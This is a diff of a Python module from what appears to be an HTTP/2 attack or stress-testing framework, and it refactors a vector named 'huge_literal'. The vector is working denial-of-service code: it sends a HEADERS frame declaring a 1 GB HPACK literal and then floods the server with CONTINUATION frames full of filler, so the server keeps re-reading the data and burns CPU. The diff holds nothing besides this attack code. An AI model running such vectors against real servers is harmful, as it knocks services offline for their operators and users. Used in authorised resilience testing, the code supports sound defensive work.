@@ -12,9 +12,10 @@ def continuations(stream, data):
 @vector(7, "huge literal, 1 GB length", cpu=0.3, cut=True)
 def huge_literal(attack):
     """Grows by frames; what has been read before is read again with each."""
-    start = h2.headers(1, h2.request_block(attack.target.path) + b"\x00" + h2.text(b"x") + h2.integer(2**30, 7), flags=0)
+    block = h2.request_block(attack.target.path) + b"\x00"
+    start = h2.headers(1, block + h2.text(b"x") + h2.integer(2**30, 7), flags=0)
     attack.flood("value", start + continuations(1, b"a" * attack.dose(24 * 2**20, 12 * 2**20)))
-    start = h2.headers(1, h2.request_block(attack.target.path) + b"\x00" + h2.integer(2**30, 7), flags=0)
+    start = h2.headers(1, block + h2.integer(2**30, 7), flags=0)
     attack.flood("name", start + continuations(1, b"a" * attack.dose(24 * 2**20, 4 * 2**20)))
 
 
